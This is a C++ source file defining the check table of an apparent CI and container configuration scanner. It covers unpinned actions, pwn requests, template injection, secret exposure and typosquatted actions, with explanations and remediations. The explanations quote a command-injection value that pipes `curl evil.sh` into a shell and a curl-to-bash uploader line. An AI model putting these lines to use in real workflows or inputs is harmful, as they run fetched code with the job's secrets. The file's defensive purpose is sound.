// The table of `config` checks. Adding a check: a row here, its function in the file named in checks.hpp, tests
// with a positive and a close negative, and a line in docs/scan-config.md.
#include "scan/config/checks.hpp"

#include <algorithm>
#include <array>
#include <cctype>

#include "core/strings.hpp"

namespace vigil::scan::config {
namespace {

using model::Severity;

constexpr std::array kChecks{
    ConfigCheck{"download-and-execute", Severity::High, "Downloaded code runs without verification",
                "A script fetched at build time runs with everything the job has: its secrets, its token, its "
                "network. Whoever controls the URL (or a proxy on the way) controls the build; the Codecov bash "
                "uploader (`bash <(curl -s https://codecov.io/bash)`) sent CI secrets away for months this way.",
                "Download to a file, verify it against a pinned checksum or signature (sha256sum -c, gpg --verify, "
                "cosign verify-blob) before running it; or install from a package manager or a pinned action.",
                check_download_execute},
    ConfigCheck{"action-not-pinned", Severity::Medium, "Action referenced by a tag or branch, not a commit SHA",
                "Tags and branches move: whoever can push to the action's repository (or hijacks it) changes what "
                "your workflow runs. In 2025 every tag of tj-actions/changed-files, and in 2026 76 of 77 tags of "
                "aquasecurity/trivy-action, were re-pointed at secret stealers; only SHA-pinned users were safe.",
                "Pin to the full 40-character commit SHA and keep the tag as a comment "
                "(uses: owner/action@<sha> # v4.1.0); let Dependabot or Renovate update it.",
                check_action_not_pinned},
    ConfigCheck{"image-not-pinned", Severity::Low, "Container image referenced without a digest",
                "A tag can be re-pushed: the image a build or job runs may change under the same name.",
                "Add the digest to the reference (node:20@sha256:<digest>); Renovate or Dependabot keep it current.",
                check_image_not_pinned},
    ConfigCheck{"image-registry-not-allowed", Severity::High, "Image from a registry outside the allowlist",
                "Images should come from the curated internal registry, where they were vetted before admission; "
                "a public image bypasses that vetting.",
                "Pull the image through the approved registry (mirror it there first), or add the registry to "
                "--allowed-registry if it is approved.",
                check_image_registry},
    ConfigCheck{"untrusted-checkout", Severity::Critical, "Privileged workflow checks out and runs pull request code",
                "pull_request_target and workflow_run workflows run with the base repository's secrets and a "
                "write token. Checking out the pull request's head and then building or running it hands both to "
                "anyone who opens a pull request (a \"pwn request\").",
                "Use the pull_request trigger for building untrusted code; if a privileged step is needed, split "
                "it into a workflow_run workflow that only consumes artifacts and never executes them.",
                check_untrusted_checkout},
    ConfigCheck{"template-injection", Severity::High, "Attacker-controlled expression expanded in a script",
                "${{ }} expressions are pasted into the script before the shell sees it. An issue title, branch "
                "name or commit message such as `a\"; curl evil.sh | sh; \"` then runs as code with the job's "
                "token and secrets.",
                "Pass the value through an environment variable (env: TITLE: ${{ github.event.issue.title }}) and "
                "use \"$TITLE\" in the script.",
                check_template_injection},
    ConfigCheck{"permissions-missing", Severity::Medium, "Workflow does not limit its GITHUB_TOKEN",
                "Without a permissions block the token gets the repository's default, which is read-write on "
                "older repositories and organisations: every step, third-party actions included, can push code.",
                "Add a top-level `permissions: contents: read` (or `{}`) and grant write scopes per job.",
                check_permissions_missing},
    ConfigCheck{"permissions-write-all", Severity::High, "Token granted write-all",
                "write-all gives every scope, including contents, packages, actions and id-token, to every step.",
                "List only the scopes the job needs, e.g. permissions: { contents: read, pull-requests: write }.",
                check_permissions_write_all},
    ConfigCheck{"permissions-unused-write", Severity::Medium, "Write scope the job does not use",
                "A write scope that no step of the job needs is only useful to an attacker who compromises a step.",
                "Drop the scope or lower it to read.", check_permissions_unused_write},
    ConfigCheck{"secrets-inherit", Severity::Medium, "Reusable workflow called with secrets: inherit",
                "inherit passes every secret of the caller to the called workflow, whether it needs them or not.",
                "Pass the secrets the called workflow declares, one by one (secrets: { token: ${{ secrets.X }} }).",
                check_secrets_inherit},
    ConfigCheck{"secrets-in-workflow-env", Severity::Medium, "Secret in the workflow-level env",
                "A secret in the top-level env is in the environment of every step of every job, third-party "
                "actions and build scripts included.",
                "Move it to the env of the one step that needs it.", check_secrets_in_workflow_env},
    ConfigCheck{"secret-to-third-party-action", Severity::Medium, "Secret passed to a third-party action",
                "An action outside your organisation and GitHub receives a secret: whoever controls the action's "
                "repository (or re-points its tag) receives it too.",
                "Pin the action to a commit SHA you reviewed, pass the narrowest token possible (an OIDC "
                "short-lived credential where the service supports it), or do the step with a script you own.",
                check_secret_to_third_party},
    ConfigCheck{"secret-echoed", Severity::High, "Secret printed by a script",
                "Masking in logs is best-effort: encoded, split or transformed secrets are printed in clear, and "
                "logs of public repositories are public.",
                "Do not print secrets; pass them to the command that needs them through env or a file.",
                check_secret_echoed},
    ConfigCheck{"self-hosted-fork-pr", Severity::High, "Self-hosted runner reachable from fork pull requests",
                "A fork pull request runs its own code on the runner. A self-hosted runner is not wiped between "
                "jobs: the attacker can persist on it, read later jobs' secrets and reach the internal network.",
                "Run pull_request jobs on GitHub-hosted (ephemeral) runners, or require approval and restrict the "
                "job to same-repository branches (if: github.event.pull_request.head.repo.full_name == "
                "github.repository).",
                check_self_hosted_fork},
    ConfigCheck{"dockerfile-add-url", Severity::Medium, "ADD downloads a URL without a checksum",
                "ADD fetches the URL at build time and trusts whatever it gets.",
                "Use ADD --checksum=sha256:<digest> URL, or RUN curl with a checksum verification.",
                check_dockerfile_add_url},
    ConfigCheck{"dockerfile-secret-in-env", Severity::High, "Secret in a Dockerfile ENV or ARG",
                "ENV values are stored in the image config and ARG values in its history: anyone who can pull the "
                "image can read them.",
                "Use build secrets (RUN --mount=type=secret,id=token ...) and pass them at build time.",
                check_dockerfile_secret_env},
    ConfigCheck{"dockerfile-runs-as-root", Severity::Medium, "Image runs as root",
                "The final stage sets no USER (or sets root): a compromise of the process is a compromise of root "
                "in the container, one kernel bug away from the host.",
                "Add USER with an unprivileged user (USER 10001) at the end of the final stage.",
                check_dockerfile_root_user},
    ConfigCheck{"gitlab-include-not-pinned", Severity::Medium, "GitLab CI includes configuration that can change",
                "A remote include (a URL) or a project include without a fixed ref pulls pipeline code that "
                "someone else can change: it runs with this project's CI variables and runners.",
                "Include project files at a fixed ref (a commit SHA or a protected tag you control), or copy the "
                "configuration into the repository.",
                check_gitlab_include_not_pinned},
    ConfigCheck{"action-typosquat", Severity::Critical, "Action name looks like a well-known action",
                "The name is one or two keystrokes (or a lookalike character) away from a widely used action but "
                "is not it: typosquatted actions are published to catch exactly this mistake.",
                "Check the owner and repository name; use the well-known action it resembles.", check_action_typosquat},
};

}  // namespace

bool is_commit_sha(std::string_view ref) {
  return (ref.size() == 40 || ref.size() == 64) &&
         std::all_of(ref.begin(), ref.end(), [](char c) { return std::isxdigit(static_cast<unsigned char>(c)) != 0; });
}

bool ConfigOptions::first_party_action(std::string_view uses) const {
  const std::string_view owner = uses.substr(0, uses.find('/'));
  if (iequals(owner, "actions") || iequals(owner, "github")) return true;
  return std::any_of(trusted_action_owners.begin(), trusted_action_owners.end(),
                     [&](const std::string& trusted) { return iequals(owner, trusted); });
}

void Findings::add(const ConfigCheck& check, int line, std::string message) {
  model::Misconfiguration m;
  m.check = std::string(check.id);
  m.severity = check.severity;
  m.title = std::string(check.title);
  m.message = std::move(message);
  m.remediation = std::string(check.remediation);
  m.explanation = std::string(check.explanation);
  m.path = doc_.path;
  m.line = line;
  out_.push_back(std::move(m));
}

std::span<const ConfigCheck> all_config_checks() {
  return kChecks;
}

const ConfigCheck* find_config_check(std::string_view id) {
  for (const auto& c : kChecks) {
    if (c.id == id) return &c;
  }
  return nullptr;
}

}  // namespace vigil::scan::config
